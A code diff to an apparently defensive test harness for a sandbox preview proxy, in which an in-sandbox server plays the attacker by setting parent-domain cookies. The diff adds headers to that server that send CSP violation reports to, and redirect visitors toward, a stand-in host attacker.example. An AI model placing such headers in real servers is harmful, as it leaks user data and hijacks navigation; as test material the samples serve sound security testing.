@@ -1,5 +1,5 @@
 import { mkdirSync } from "node:fs";
-import { request } from "node:http";
+import { type IncomingHttpHeaders, request } from "node:http";
 import { join } from "node:path";
 import type { Attack } from "@holdfast/gate";
 import { createSandboxServer } from "@holdfast/sandbox";
@@ -13,6 +13,8 @@ const program = `
   const { createServer } = require("node:http");
   const serve = () => new Promise((done) => {
     const server = createServer((request, response) => {
+      response.setHeader("content-security-policy", "img-src 'none'; report-uri https://attacker.example/");
+      response.setHeader("refresh", "0; url=https://attacker.example/");
       response.setHeader("set-cookie", ["loot=1; Domain=localhost", "loot=2; domain=.localhost; Path=/", "holdfast_preview=mine"]);
       response.end(JSON.stringify(request.headers));
     });
@@ -22,6 +24,7 @@ const program = `
 
 interface Answer {
   readonly status: number;
+  readonly headers: IncomingHttpHeaders;
   readonly cookies: readonly string[];
   readonly body: string;
 }
@@ -30,7 +33,7 @@ interface Answer {
  * Sends a browser's request with arbitrary headers. Connects to the loopback address, so names below localhost need no
  * resolver.
  */
-function send(
+export function send(
   port: string,
   path: string,
   headers: Readonly<Record<string, string>>,
@@ -49,6 +52,7 @@ function send(
       incoming.once("end", () =>
         resolve({
           status: incoming.statusCode ?? 0,
+          headers: incoming.headers,
           cookies: incoming.headers["set-cookie"] ?? [],
           body: text,
         }),
@@ -60,11 +64,13 @@ function send(
 
 interface Previews {
   readonly server: URL;
+  /** The ports of the two servers. */
+  readonly ports: readonly [string, string];
   /** Preview links to the two servers, as a user gets them. */
   readonly links: readonly [URL, URL];
 }
 
-async function withPreviews<T>(lab: Lab, use: (previewed: Previews) => Promise<T>): Promise<T> {
+export async function withPreviews<T>(lab: Lab, use: (previewed: Previews) => Promise<T>): Promise<T> {
   const directory = lab.directory("preview");
   const root = join(directory, "root");
   mkdirSync(root);
@@ -86,7 +92,11 @@ async function withPreviews<T>(lab: Lab, use: (previewed: Previews) => Promise<T
     const { id } = await call("/processes", { command: process.execPath, args: ["-e", program] });
     const [first, second] = await readPorts(() => call(`/processes/${id}/logs`));
     const link = async (port: string) => new URL(String((await call(`/ports/${port}/preview`, {}))["url"]));
-    return await use({ server: new URL(url), links: [await link(first), await link(second)] });
+    return await use({
+      server: new URL(url),
+      ports: [first, second],
+      links: [await link(first), await link(second)],
+    });
   } finally {
     await server.close();
   }
